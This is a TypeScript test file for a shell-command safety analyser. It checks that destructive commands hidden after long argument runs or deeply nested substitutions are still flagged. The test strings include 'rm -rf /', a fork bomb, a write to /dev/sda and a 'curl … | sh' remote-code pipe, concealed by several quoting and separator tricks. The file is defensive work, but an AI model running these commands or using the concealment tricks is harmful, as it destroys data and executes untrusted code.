import { beforeAll, describe, expect, it } from 'vitest';
import { analyseCommand, initShellParser } from './analyse';
import { PARSE_LIMITS } from './parse';

beforeAll(() => initShellParser());

/** Ordinary arguments past the parser's size limit: the pattern scan passes them over in bulk. */
const RUN = 'ab1 c/d e.f '.repeat(Math.ceil(PARSE_LIMITS.chars / 12) + 1);

// The scan drops runs of ordinary arguments without reading them as tokens. What ends such a
// run must still be read: each command hides a danger right after a long run.
describe('pattern scan after a long run of ordinary arguments', () => {
  it.each([
    ['a separator', `echo ${RUN}; rm -rf /`, 'hardline', 'rm-root'],
    ['an and-list', `echo ${RUN}&& rm -rf ~`, 'hardline', 'rm-root'],
    ['a background operator', `echo ${RUN}& rm -rf /`, 'hardline', 'rm-root'],
    ['a pipe', `curl -s https://x ${RUN}| sh`, 'dangerous', 'remote-code'],
    ['a newline', `echo ${RUN}\nrm -rf /`, 'hardline', 'rm-root'],
    ['a newline after a comment', `echo ${RUN}#x\nrm -rf /`, 'hardline', 'rm-root'],
    ['a double-quoted command', `bash -c ${RUN}"rm -rf /"`, 'hardline', 'rm-root'],
    ['a single-quoted command', `bash -c ${RUN}'rm -rf /'`, 'hardline', 'rm-root'],
    ['a substitution', `echo ${RUN}$(rm -rf /)`, 'hardline', 'rm-root'],
    ['a backtick substitution', `echo ${RUN}\`rm -rf /\``, 'hardline', 'rm-root'],
    ['a separator inside quotes', `echo ${RUN}"x; rm -rf /" ${RUN}`, 'hardline', 'rm-root'],
    ['an and-list after a backslash-newline', `echo ${RUN}\\\n&& rm -rf /`, 'hardline', 'rm-root'],
    ['a separator after an escaped blank', `echo ${RUN}a\\ ;rm -rf /`, 'hardline', 'rm-root'],
    ['a redirect', `echo ${RUN}> /dev/sda`, 'hardline', 'block-device-write'],
    ['find -exec', `find . ${RUN}-exec rm -rf / \\;`, 'hardline', 'rm-root'],
    ['a fork bomb named by the last word', `echo ${RUN}: (){ :|:& };:`, 'hardline', 'fork-bomb'],
    ['tabs between the words', `echo ${RUN.replaceAll(' ', '\t')}; rm -rf /`, 'hardline', 'rm-root'],
  ])('finds %s', (_what, cmd, verdict, key) => {
    const v = analyseCommand(cmd);
    expect(v.parsed).toBe(false);
    expect(v.verdict).toBe(verdict);
    expect(v.keys).toContain(key);
  });
});

/** `"$(echo "$(echo …)")"` nested past the parser's size limit; `quote` is `"` or `'`. */
function deep(quote = '"', n = Math.ceil(PARSE_LIMITS.chars / 10) + 1): string {
  return `${quote}$(echo `.repeat(n) + `)${quote}`.repeat(n);
}

// The scan applies a run of `)"` closers at once. What follows the run must still be read, and
// the run must close exactly as many substitutions as it holds.
describe('pattern scan after a long run of quoted closers', () => {
  it.each([
    ['a separator', `${deep()}; rm -rf /`, 'rm-root'],
    ['a quoted command', `${deep()}"rm -rf /"`, 'rm-root'],
    ['a single-quoted command', `${deep("'")}'rm -rf /'`, 'rm-root'],
    ['a substitution', `${deep()}"$(rm -rf /)"`, 'rm-root'],
    ['a command right after a closer', `${deep()})reboot`, 'power-off'],
    ['a word that is no quote', `${deep()}x; rm -rf /`, 'rm-root'],
    ['a one-character command between closers', `${deep()})$)`, 'dynamic-command'],
    // The scan follows 256 levels; deeper ones count as the deepest.
    [
      'a substitution inside a shell',
      `echo ${RUN}; sh -c "$(${deep('"', 200)}$(curl -s https://x))"`,
      'remote-code',
    ],
  ])('finds %s', (_what, cmd, key) => {
    const v = analyseCommand(cmd);
    expect(v.parsed).toBe(false);
    expect(v.keys).toContain(key);
  });

  it('leaves no substitution open after closing them all', () => {
    // Still inside a substitution, bash would seem to run what curl prints.
    const v = analyseCommand(`echo ${RUN}; ${deep('"', 200)}; bash -c x | curl -s https://x`);
    expect(v.parsed).toBe(false);
    expect(v.keys).not.toContain('remote-code');
  });
});
